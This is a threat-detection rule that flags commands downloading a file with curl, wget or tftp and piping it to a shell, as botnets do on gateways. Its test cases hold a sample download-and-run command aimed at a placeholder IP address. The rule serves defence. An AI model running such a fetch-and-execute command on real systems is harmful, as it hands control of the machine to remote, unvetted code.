# A script from the internet goes straight into a shell: that is how botnets take gateways.
rule downloaded_and_run {
    meta {
        id = "OT-LINUX-0007"
        sid = 9310007
        rev = 1
        severity = high
        attack = [ics.T0853, ics.T0867, enterprise.T1105]
        description = "Something is fetched and given to a shell"
        falsepositives = "installation scripts"
    }
    on process as e
    where e.command_line contains any { "curl ", "wget ", "tftp " }
        and e.command_line contains any {
            "| sh", "|sh", "| bash", "|bash", "; sh ", ";sh ", "chmod +x", "chmod 777"
        }
    dedup by (e.host.name, e.user) for 1h
    emit {
        title = "something fetched is run on {e.host.name}"
        evidence = [e.command_line, e.user, e.parent.image]
    }

    test "as it is seen" {
        at 0s process {
            host.name: "gw-1", image: "/bin/sh",
            command_line: "sh -c curl http://192.0.2.1/a | sh"
        }
        expect match
    }

    test "only fetched" {
        at 0s process {
            host.name: "gw-1", image: "/bin/sh",
            command_line: "sh -c curl http://192.0.2.1/a -o /tmp/a"
        }
        expect none
    }

    test "only run" {
        at 0s process {
            host.name: "gw-1", image: "/bin/sh", command_line: "sh -c cat /opt/setup | sh"
        }
        expect none
    }
}
